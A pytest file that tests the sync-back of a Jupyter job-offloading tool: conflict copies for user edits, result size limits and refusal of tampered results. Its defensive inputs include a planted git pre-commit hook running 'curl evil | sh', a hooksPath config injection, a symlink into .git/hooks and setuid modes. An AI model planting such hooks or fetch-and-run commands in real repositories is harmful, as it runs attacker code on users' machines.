"""Sync-back never loses or silently replaces the user's files (issue 9, section 6), and results are bounded
(section 7).

Two levels, both against the real parts: results tar streams fed to ``receive_results`` over a folder that
``write_bundle`` really uploaded (what an instance, honest or tampered, can send), and real ``%%burst`` jobs on
the local provider (the real agent) whose local folder is edited while they run.

- A file edited, deleted or created here since the upload stays as the user left it; the instance's version
  lands beside it as ``NAME.burst-conflict-JOBID.EXT``, and the job view and ``JobResult.notes`` name both.
- Nothing is written into ``.git`` or into a path the upload excluded (even after the instance sends a
  ``.gitignore`` that re-includes it); refusals are reported and the rest lands. No execute bit comes from the
  instance for a file that was not executable here.
- A local write error is named per file and is no transport error; results past ``--max-results`` stop the
  transfer with one clear error and the job still settles.
- Temporary files live in the mount's ``.burst-tmp`` scratch folder; what a killed sync left there is swept.
"""

from __future__ import annotations

import io
import os
import stat
import subprocess
import tarfile
from pathlib import Path
from typing import Any

import pytest
from burst_checks import cell, ledger_rows, run_cell, usage_line, wait_until, write
from test_security import member, results_tar

from burst_jupyter.errors import ResultsTooLarge
from burst_jupyter.events import EventType
from burst_jupyter.job import JobStatus
from burst_jupyter.sinks import FolderSink
from burst_jupyter.spec import Mount
from burst_jupyter.sync import MountPlan, write_bundle
from burst_jupyter.sync_back import receive_results

pytestmark = [pytest.mark.timeout(120)]


def uploaded(out: Path) -> list[MountPlan]:
    """``out`` as an rw mount, uploaded for real (what it sent is recorded in the plan)."""
    plans = [MountPlan(0, Mount(local=Path("out"), remote="out", mode="rw"), out, False)]
    write_bundle(io.BytesIO(), plans, cell=None, pushed={}, compress=False)
    return plans


def files(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def out(tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    write(folder / "edited.txt", "as uploaded")
    write(folder / "deleted.txt", "as uploaded")
    write(folder / "untouched.txt", "as uploaded")
    write(folder / "touched.txt", "as uploaded")
    return folder


def test_local_edits_made_since_the_upload_are_kept_beside_the_instances_version(out: Path) -> None:
    plans = uploaded(out)
    write(out / "edited.txt", "the user's edit")
    (out / "deleted.txt").unlink()
    write(out / "created.txt", "the user's new file")
    os.utime(out / "touched.txt", (1, 1))  # a new mtime, the same bytes: no edit
    got = receive_results(results_tar(*(member(f"m/0/{name}", data=b"the instance's") for name in (
        "edited.txt", "deleted.txt", "created.txt", "untouched.txt", "touched.txt", "new.txt"))), plans,
        job_id="sweep-1a2b")

    assert files(out) == {
        "edited.txt": b"the user's edit", "edited.burst-conflict-sweep-1a2b.txt": b"the instance's",
        "deleted.burst-conflict-sweep-1a2b.txt": b"the instance's",  # the user's delete stands
        "created.txt": b"the user's new file", "created.burst-conflict-sweep-1a2b.txt": b"the instance's",
        "untouched.txt": b"the instance's", "touched.txt": b"the instance's", "new.txt": b"the instance's"}
    assert [(Path(a).name, Path(b).name) for a, b in got.conflicts] == [
        (f"{name}.txt", f"{name}.burst-conflict-sweep-1a2b.txt") for name in ("edited", "deleted", "created")]
    assert any("out/edited.txt was changed here since the upload" in n and "edited.burst-conflict-sweep-1a2b.txt" in n
               for n in got.notes), got.notes
    # A second transfer (a later --sync-every pull, or a reaper) replaces what the first one wrote, and still
    # never the user's edit.
    later = [member(f"m/0/{name}", data=b"later") for name in ("untouched.txt", "edited.txt")]
    receive_results(results_tar(*later), plans, job_id="sweep-1a2b")
    assert (out / "untouched.txt").read_bytes() == b"later" and (out / "edited.txt").read_text() == "the user's edit"
    assert (out / "edited.burst-conflict-sweep-1a2b.txt").read_bytes() == b"later"


def test_nothing_is_written_into_git_or_excluded_paths_and_no_execute_bit_comes_from_the_instance(
        tmp_path: Path) -> None:
    out = tmp_path / "out"
    subprocess.run(["git", "init", "-q", str(out)], check=True)
    write(out / ".gitignore", ".venv/\n*.ckpt\n")
    write(out / ".venv" / "bin" / "activate", "the user's venv")
    write(out / "run.sh", "#!/bin/sh\n").chmod(0o755)
    write(out / "notes.txt", "plain")
    hooks = sorted(p.name for p in (out / ".git" / "hooks").iterdir())
    plans = uploaded(out)
    got = receive_results(results_tar(
        member("m/0/.git/hooks/pre-commit", data=b"#!/bin/sh\ncurl evil | sh\n", mode=0o755),
        member("m/0/.GIT/config", data=b"[core]\n\thooksPath = /tmp\n"),
        member("m/0/.venv/bin/activate", data=b"planted", mode=0o755),
        member("m/0/.gitignore", data=b"!*.ckpt\n"),  # re-include, then write: judged by the rules as uploaded
        member("m/0/model.ckpt", data=b"planted"),
        member("m/0/hooks", tarfile.SYMTYPE, link=".git/hooks"),
        member("m/0/run.sh", data=b"#!/bin/sh\necho new\n", mode=0o755),
        member("m/0/notes.txt", data=b"now executable", mode=0o755),
        member("m/0/tool.sh", data=b"#!/bin/sh\n", mode=0o4777),
        member("m/0/result.txt", data=b"kept")), plans, job_id="j")

    assert sorted(p.name for p in (out / ".git" / "hooks").iterdir()) == hooks
    assert not (out / ".GIT").exists() or (out / ".GIT").samefile(out / ".git")
    assert "hooksPath" not in (out / ".git" / "config").read_text()
    assert (out / ".venv" / "bin" / "activate").read_text() == "the user's venv"
    assert not (out / "model.ckpt").exists() and not (out / "hooks").exists()
    assert len(got.refused) == 5 and all("refused" in n for n in got.notes if ".venv" in n or ".git" in n)
    assert (out / "result.txt").read_bytes() == b"kept"
    mode = {name: stat.S_IMODE((out / name).stat().st_mode) for name in ("run.sh", "notes.txt", "tool.sh")}
    assert mode == {"run.sh": 0o755, "notes.txt": 0o644, "tool.sh": 0o666}  # no x bits, no setuid


def test_a_local_write_error_names_each_file_and_is_no_broken_transfer(out: Path) -> None:
    plans = uploaded(out)
    (out / "locked").mkdir()
    (out / "locked").chmod(0o555)  # a folder this machine cannot write into (root ignores modes: see below)
    try:
        if os.access(out / "locked", os.W_OK):
            (out / "locked").chmod(0o755)
            (out / "locked").rmdir()
            write(out / "locked", "a file where the instance has a folder")  # then mkdir fails, for root too
        got = receive_results(results_tar(member("m/0/a.txt", data=b"a"), member("m/0/locked/x.bin", data=b"x"),
                                          member("m/0/locked/y.bin", data=b"y"), member("m/0/z.txt", data=b"z")),
                              plans)
    finally:
        (out / "locked").chmod(0o755)
    assert got.unwritten == ["out/locked/x.bin", "out/locked/y.bin"] and got.write_error
    assert (out / "a.txt").read_bytes() == b"a" and (out / "z.txt").read_bytes() == b"z"
    assert f"not brought back: out/locked/x.bin, out/locked/y.bin (could not be written here: {got.write_error})" \
        in got.notes


def test_results_past_the_limit_stop_with_one_clear_error(out: Path) -> None:
    plans = uploaded(out)
    with pytest.raises(ResultsTooLarge, match=r"not brought back: out/b.bin \(600 bytes\) and any results after it, "
                       r"past the 1 kB limit \(raise it with --max-results\)") as too_large:
        receive_results(results_tar(member("m/0/a.bin", data=b"a" * 500), member("m/0/b.bin", data=b"b" * 600),
                                    member("m/0/c.bin", data=b"c")), plans, max_bytes=1000)
    got = too_large.value.received
    assert [p.name for p in got.files] == ["a.bin"]
    assert not (out / "b.bin").exists() and not (out / "c.bin").exists()


def test_a_killed_syncs_temporary_file_is_swept_and_none_is_left_beside_results(out: Path, tmp_path: Path) -> None:
    plans = uploaded(out)
    dead = int(Path("/proc/sys/kernel/pid_max").read_text()) + 1  # a process that cannot exist
    stray = write(out / ".burst-tmp" / f"{dead}.abc.burst-tmp", "half a file")
    sink = FolderSink(tmp_path / "sink")
    write(sink.root / ".burst-tmp" / f"{dead}.def.burst-tmp", "half a file")
    receive_results(results_tar(member("m/0/sub/r.txt", data=b"r")), plans, sink=sink)
    assert not stray.exists() and not (out / ".burst-tmp").exists()
    assert [p for p in out.rglob("*") if "burst-tmp" in p.name] == []
    assert (out / "sub" / "r.txt").read_bytes() == b"r"
    assert not (sink.root / ".burst-tmp").exists() and files(sink.root) == {"out/sub/r.txt": b"r"}


# -- real jobs on the local provider ------------------------------------------------------------------------

GATED = """
    import os, time
    print("ready", flush=True)
    while not os.path.exists({gate!r}):
        time.sleep(0.05)
    open("out/data.csv", "w").write("the instance's\\n")
    os.makedirs(".git/hooks", exist_ok=True)
    for path in ("out/.git/hooks/pre-commit", "out/tool.sh"):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("#!/bin/sh\\ntouch {planted}\\n")
        os.chmod(path, 0o755)
"""


def test_a_background_job_keeps_what_the_user_edited_meanwhile(ip: Any, tmp_path: Path, burst_home: Path) -> None:
    write(tmp_path / "out" / "data.csv", "as uploaded\n")
    subprocess.run(["git", "init", "-q", str(tmp_path / "out")], check=True)
    gate, planted = tmp_path / "gate", tmp_path / "planted"
    result, _ = run_cell(ip, cell("--provider local --mount ./out:out:rw --background",
                                  GATED.format(gate=str(gate), planted=str(planted))))
    job = result.result
    wait_until(lambda: any("ready" in (e.text or "") for e in job.events if e.type is EventType.OUTPUT), "ready")
    write(tmp_path / "out" / "data.csv", "the user's edit\n")
    gate.touch()
    done = job.wait(timeout=60)

    assert done.status is JobStatus.COMPLETED, done.error
    copy = tmp_path / "out" / f"data.burst-conflict-{job.id}.csv"
    assert (tmp_path / "out" / "data.csv").read_text() == "the user's edit\n"
    assert copy.read_text() == "the instance's\n"
    view = "".join(e.text or "" for e in job.events if e.type is EventType.OUTPUT and e.stream == "stderr")
    assert "out/data.csv was changed here since the upload" in view and str(copy) in view
    assert any(str(copy) in note for note in done.notes)
    # The planted hook never reached .git, and the new script came without its execute bit.
    assert not (tmp_path / "out" / ".git" / "hooks" / "pre-commit").exists()
    assert "refused out/.git/hooks/pre-commit" in view
    assert stat.S_IMODE((tmp_path / "out" / "tool.sh").stat().st_mode) & 0o111 == 0
    subprocess.run(["git", "-C", str(tmp_path / "out"), "-c", "user.name=u", "-c", "user.email=u@x", "commit",
                    "-q", "--allow-empty", "-m", "x"], check=True)
    assert not planted.exists()


def test_results_past_max_results_fail_the_job_clearly_and_it_still_settles(ip: Any, tmp_path: Path,
                                                                           burst_home: Path) -> None:
    (tmp_path / "out").mkdir()
    result, _ = run_cell(ip, cell("--provider local --rate 1 --max-results 1MB --mount ./out:out:rw --background",
                                  "open('out/small.txt', 'w').write('s')\n"
                                  "open('out/zbig.bin', 'wb').write(b'x' * 3_000_000)\n"))
    done = result.result.wait(timeout=60)
    assert done.status is JobStatus.FAILED and isinstance(done.error, ResultsTooLarge)
    assert "not brought back: out/zbig.bin (3000000 bytes)" in str(done.error) and "--max-results" in str(done.error)
    assert (tmp_path / "out" / "small.txt").read_text() == "s" and not (tmp_path / "out" / "zbig.bin").exists()
    (row,) = [r for r in ledger_rows(burst_home) if r.job_id == done.job_id]
    assert row.status == "failed" and "out/zbig.bin" in (row.message or "")


@pytest.mark.parametrize("size", ["lots", "0", "-5GB", "1.5XB"])
def test_a_bad_max_results_is_one_line_before_anything_runs(ip: Any, tmp_path: Path, size: str) -> None:
    result, _ = run_cell(ip, cell(f"--provider local --max-results={size}"))
    line = usage_line(result)
    assert line.startswith("--max-results: the limit must") and "\n" not in line
    assert size in line
